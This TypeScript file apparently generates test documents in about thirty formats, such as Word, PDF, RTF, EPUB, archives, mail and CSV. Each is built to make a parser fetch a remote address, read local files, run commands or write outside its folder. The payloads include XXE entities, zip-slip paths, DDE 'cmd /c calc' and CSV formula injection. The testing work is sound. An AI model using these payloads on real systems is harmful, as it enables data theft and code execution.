import { zipSync } from 'fflate';
import { gzipSync } from 'node:zlib';
import { onePage, type PdfObject } from '../fingerprint/bombs/write-pdf.ts';
import { sevenZipOfZeros } from '../fingerprint/containers/bombs.ts';
import { tarOf } from '../fingerprint/containers/make-tar.ts';
import { compoundOf } from '../fingerprint/formats/make-compound.ts';
import { contentTypes, relationships, wordOf, zipOf } from '../fingerprint/formats/make-zip.ts';
import type { DocumentType } from '../../utils/fingerprint/signatures.ts';

type Bytes = Uint8Array<ArrayBuffer>;

/** What a document tries to have: an address, a file that is there, a place where a file may be put. */
export interface Reached {
  /** Without a slash at its end. */
  address: string;
  file: string;
  /** Relative, above where anybody would unpack. */
  outside: string;
}

export interface ReachingDocument {
  what: string;
  name: string;
  /** As its first bytes tell it. */
  type: DocumentType;
  bytes: Bytes;
}

/** Kinds that cannot name anything, and those that no free program writes. */
export const silent: readonly DocumentType[] = ['gif', 'bmp', 'tiff', 'webp', 'bzip2', 'xz', 'zstd', 'rar'];

/** Documents of every kind that try to have something fetched, read, run or written. */
export function reachingDocuments({ address, file, outside }: Reached): ReachingDocument[] {
  const entity = (root: string): string =>
    `<!DOCTYPE ${root} [<!ENTITY % dtd SYSTEM "${address}/dtd">%dtd;<!ENTITY a SYSTEM "file://${file}"><!ENTITY b SYSTEM "${address}/entity">]>`;
  const dtd = (root: string): string => `<!DOCTYPE ${root} SYSTEM "${address}/dtd">`;
  const include = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${address}/include" parse="text"/><xi:include href="file://${file}" parse="text"/>`;
  const page = `<html><head><base href="${address}/"><meta http-equiv="refresh" content="0;url=${address}/refresh"><link rel="stylesheet" href="${address}/style"><script src="${address}/script"></script><script>fetch("${address}/run");require("fs").writeFileSync("${outside}","x")</script></head><body onload="fetch('${address}/load')"><img src="${address}/image"><iframe src="file://${file}"></iframe><object data="${address}/object"></object><svg><image href="${address}/svg"/></svg><p style="background:url(${address}/background)">text</p></body></html>`;
  return [
    document('a page', 'a.html', 'html', page),
    document('an XHTML page with entities', 'a.html', 'html', `${entity('html')}<html><p>&a;&b;</p>${include}</html>`),
    document(
      'Word: entities',
      'a.docx',
      'zip',
      wordOf('', {
        'word/document.xml': `${entity('w:document')}<w:document><w:body><w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    ),
    document('Word: a template, pictures and parts elsewhere', 'a.docx', 'zip', wordFarAway(address, file, include)),
    document(
      'Word: a document type elsewhere',
      'a.docx',
      'zip',
      wordOf('', {
        'word/document.xml': `${dtd('w:document')}<w:document><w:body><w:p><w:r><w:t>text</w:t></w:r></w:p></w:body></w:document>`,
      }),
    ),
    document('Excel: a link and a formula', 'a.xlsx', 'zip', sheetFarAway(address)),
    document('PowerPoint: a film elsewhere', 'a.pptx', 'zip', slidesFarAway(address)),
    document(
      'OpenDocument: pictures, programs, parts elsewhere',
      'a.odt',
      'zip',
      openDocument(
        `${dtd('office:document-content')}<office:document-content><office:scripts><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/></office:scripts><office:body><office:text><text:p>text<draw:frame><draw:image xlink:href="${address}/image"/></draw:frame></text:p><text:section><text:section-source xlink:href="${address}/section"/></text:section>${include}</office:text></office:body></office:document-content>`,
      ),
    ),
    document(
      'OpenDocument: entities',
      'a.odt',
      'zip',
      openDocument(
        `${entity('office:document-content')}<office:document-content><office:body><office:text><text:p>&a;&b;</text:p></office:text></office:body></office:document-content>`,
      ),
    ),
    document('EPUB', 'a.epub', 'zip', book(page.replace('<html>', `${dtd('html')}<html>`), include)),
    document(
      'RTF',
      'a.rtf',
      'rtf',
      `{\\rtf1{\\*\\template ${address}/template}{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/image" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${file}"}{\\fldrslt y}}{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt z}}{\\object\\objautlink{\\*\\objdata 01050000}}text}`,
    ),
    document('PDF: actions', 'a.pdf', 'pdf', pdfActions(address, file)),
    document('PDF: streams and files elsewhere', 'a.pdf', 'pdf', pdfFarAway(address, file, entity('x:xmpmeta'))),
    document(
      'a drawing',
      'a.svg',
      'text',
      `<?xml version="1.0"?><?xml-stylesheet href="${address}/style"?>${entity('svg')}<svg onload="fetch('${address}/load')"><script href="${address}/script"/><image href="${address}/image"/><text>&a;&b;</text></svg>`,
    ),
    document(
      'JPEG: XMP',
      'a.jpg',
      'jpeg',
      jpegWith(`${entity('x')}<x:xmpmeta><dc:title>&a;&b;</dc:title></x:xmpmeta>`),
    ),
    document('PNG: XMP', 'a.png', 'png', pngWith(`${entity('x')}<x:xmpmeta><dc:title>&a;&b;</dc:title></x:xmpmeta>`)),
    document('zip: paths and links', 'a.zip', 'zip', zipWithLink(outside, file)),
    document(
      'tar: paths and links',
      'a.tar',
      'tar',
      tarOf([
        { name: outside },
        { name: `/${outside}` },
        { name: 'link', kind: '2', target: '/' },
        { name: `link${file}` },
        { name: 'hard', kind: '1', target: file },
        { name: 'device', kind: '3' },
        { name: 'pipe', kind: '6' },
      ]),
    ),
    document('7z: a path', 'a.7z', '7z', sevenZipOfZeros(outside.slice(-50))),
    document('gzip: a path', 'a.gz', 'gzip', gzipNamed(outside)),
    document('a packed file of Windows', 'a.doc', 'ole', compoundOf({ '\x01Ole10Native': packed(outside) })),
    document(
      'an Outlook mail',
      'a.msg',
      'ole',
      compoundOf({ '__properties_version1.0': Buffer.alloc(32), '__substg1.0_10130102': Buffer.from(page) }),
    ),
    document('a mail', 'a.eml', 'mail', mail(address, file, page)),
    document(
      'a folder of mails',
      'a.mbox',
      'mail',
      `From a Wed May  3 10:00:00 2017\n${mail(address, file, page)}\n\nFrom a Wed May  3 10:00:00 2017\n${mail(address, file, page)}\n`,
    ),
    document('a torrent', 'a.torrent', 'torrent', torrent(address, outside)),
    document(
      'a calendar',
      'a.ics',
      'text',
      `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:${address}/attached\r\nATTACH:file://${file}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
    ),
    document(
      'a card',
      'a.vcf',
      'text',
      `BEGIN:VCARD\r\nPHOTO;VALUE=URI:${address}/photo\r\nURL:${address}\r\nEND:VCARD\r\n`,
    ),
    document('a table', 'a.csv', 'text', `a,"=WEBSERVICE(""${address}/formula"")","=cmd|'/c calc'!A0"\n`),
  ];
}

function document(what: string, name: string, type: DocumentType, content: string | Uint8Array): ReachingDocument {
  return { what, name, type, bytes: new Uint8Array(Buffer.from(content as string)) };
}

function wordFarAway(address: string, file: string, include: string): Bytes {
  return wordOf(
    `<w:p><w:r><w:fldSimple w:instr="INCLUDETEXT &quot;${file}&quot;"><w:t>x</w:t></w:fldSimple><a:blip r:link="r1"/></w:r></w:p><w:altChunk r:id="r2"/>${include}`,
    {
      'word/_rels/document.xml.rels': relationships([
        ['r1', 'image', `${address}/image`],
        ['r2', 'aFChunk', `${address}/chunk`],
        ['r3', 'header', `${address}/header`],
        ['r4', 'footnotes', `file://${file}`],
        ['r5', 'settings', 'settings.xml'],
      ]),
      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="t"/></w:settings>',
      'word/_rels/settings.xml.rels': relationships([['t', 'attachedTemplate', `${address}/template.dotm`]]),
    },
  );
}

function sheetFarAway(address: string): Bytes {
  return zipOf({
    '[Content_Types].xml': contentTypes('/xl/workbook.xml', 'spreadsheetml.sheet.main+xml'),
    'xl/workbook.xml':
      '<workbook><sheets><sheet name="x" sheetId="1" r:id="a"/><sheet name="y" sheetId="2" r:id="b"/></sheets><externalReferences><externalReference r:id="c"/></externalReferences></workbook>',
    'xl/_rels/workbook.xml.rels': relationships([
      ['a', 'worksheet', 'a.xml'],
      ['b', 'worksheet', `${address}/sheet`],
      ['c', 'externalLink', `${address}/book`],
      ['d', 'sharedStrings', `${address}/strings`],
    ]),
    'xl/a.xml': `<worksheet><sheetData><row><c t="str"><f>WEBSERVICE("${address}/formula")</f><v>x</v></c></row></sheetData></worksheet>`,
  });
}

function slidesFarAway(address: string): Bytes {
  return zipOf({
    '[Content_Types].xml': contentTypes('/ppt/presentation.xml', 'presentationml.presentation.main+xml'),
    'ppt/presentation.xml':
      '<p:presentation><p:sldIdLst><p:sldId r:id="a"/><p:sldId r:id="b"/></p:sldIdLst></p:presentation>',
    'ppt/_rels/presentation.xml.rels': relationships([
      ['a', 'slide', 'a.xml'],
      ['b', 'slide', `${address}/slide`],
    ]),
    'ppt/a.xml': '<p:sld><a:p><a:r><a:t>text</a:t></a:r></a:p><a:videoFile r:link="v"/></p:sld>',
    'ppt/_rels/a.xml.rels': relationships([
      ['v', 'video', `${address}/film`],
      ['n', 'notesSlide', `${address}/notes`],
    ]),
  });
}

function openDocument(content: string): Bytes {
  return zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': content });
}

function book(chapter: string, include: string): Bytes {
  return zipOf({
    mimetype: 'application/epub+zip',
    'META-INF/container.xml': `<container><rootfiles><rootfile full-path="a.opf"/></rootfiles>${include}</container>`,
    'a.opf':
      '<package><manifest><item id="a" href="a.xhtml"/><item id="b" href="../../../../etc/passwd"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>',
    'a.xhtml': chapter,
  });
}

function pdfActions(address: string, file: string): Bytes {
  const script = `(app.launchURL("${address}/script"); this.getURL("${address}/get");)`;
  const actions: PdfObject[] = [
    `<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (${address}/link)>>>>`,
    `<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /Launch /F (${file})>>>>`,
    `<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /GoToR /F (${address}/other.pdf) /D [0 /Fit]>>>>`,
    `<</Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /AA <</PV <</S /JavaScript /JS ${script}>>>> /A <</S /SubmitForm /F <</FS /URL /F (${address}/submit)>>>>>>`,
    `<</Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A <</S /ImportData /F (${file})>>>>`,
  ];
  return onePage(
    `/AA <</O <</S /JavaScript /JS ${script}>>>> /Annots [${actions.map((_, at) => `${at + 4} 0 R`).join(' ')}]`,
    ...actions,
  );
}

function pdfFarAway(address: string, file: string, entity: string): Bytes {
  const packet = `${entity}<x:xmpmeta><rdf:RDF><rdf:Description><dc:title>&a;&b;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>`;
  const elsewhere = `/FFilter /FlateDecode /F <</FS /URL /F (${address}/stream)>>`;
  return onePage(
    `/Contents 4 0 R /Metadata 5 0 R /Annots [6 0 R] /Resources <</Font <</F 7 0 R>> /XObject <</I 8 0 R>>>>`,
    { dictionary: elsewhere, content: new Uint8Array() },
    { dictionary: '/Type /Metadata /Subtype /XML', content: new TextEncoder().encode(packet) },
    `<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS <</Type /Filespec /FS /URL /F (${address}/attached)>>>>`,
    '<</Type /Font /Subtype /TrueType /BaseFont /FarAway /FontDescriptor <</Type /FontDescriptor /FontName /FarAway /Flags 4>>>>',
    { dictionary: `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F (${file})`, content: new Uint8Array() },
  );
}

function jpegWith(packet: string): Bytes {
  const body = Buffer.from(`http://ns.adobe.com/xap/1.0/\0${packet}`);
  const head = Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(body.length + 2, 4);
  return new Uint8Array(Buffer.concat([head, body]));
}

function pngWith(packet: string): Bytes {
  const body = Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${packet}`);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length);
  head.write('iTXt', 4);
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return new Uint8Array(Buffer.concat([signature, head, body, Buffer.alloc(4)]));
}

function zipWithLink(outside: string, file: string): Bytes {
  const link = [new TextEncoder().encode(file), { os: 3, attrs: 0o120777 << 16 }] as const;
  const text = new TextEncoder().encode('text');
  return zipSync({
    [outside]: text,
    [`/${outside}`]: text,
    [`..\\${outside}`]: text,
    link: [link[0], { ...link[1] }],
    'link/a': text,
  });
}

function gzipNamed(name: string): Bytes {
  const packed = gzipSync('text');
  packed[3] = 8;
  return new Uint8Array(Buffer.concat([packed.subarray(0, 10), Buffer.from(`${name}\0`), packed.subarray(10)]));
}

/** As Windows' packager writes it: label, path, a path again, the file. */
function packed(path: string): Uint8Array {
  const length = (value: number): Buffer => Buffer.from(Uint32Array.of(value).buffer);
  const head = Buffer.from(`\0\0\0\0\x02\0${path}\0${path}\0\0\0\x03\0`);
  return Buffer.concat([head, length(path.length + 1), Buffer.from(`${path}\0`), length(4), Buffer.from('text')]);
}

function mail(address: string, file: string, page: string): string {
  return `From: a@b.example\nTo: c@d.example\nSubject: x\nList-Unsubscribe: <${address}/list>\nDisposition-Notification-To: a@b.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n${page}\n--b\nContent-Type: message/external-body; access-type=URL; URL="${address}/body"\n\nContent-Type: text/plain\n\n--b\nContent-Type: message/external-body; access-type=local-file; name="${file}"\n\nContent-Type: text/plain\n\n--b--\n`;
}

function torrent(address: string, outside: string): string {
  const text = (value: string): string => `${Buffer.byteLength(value)}:${value}`;
  const info = `d5:filesld6:lengthi4e4:pathl${outside.split('/').map(text).join('')}eee4:name${text('/etc')}12:piece lengthi16384e6:pieces20:${'x'.repeat(20)}e`;
  return `d8:announce${text(`${address}/announce`)}4:info${info}8:url-list${text(`${address}/seed`)}e`;
}
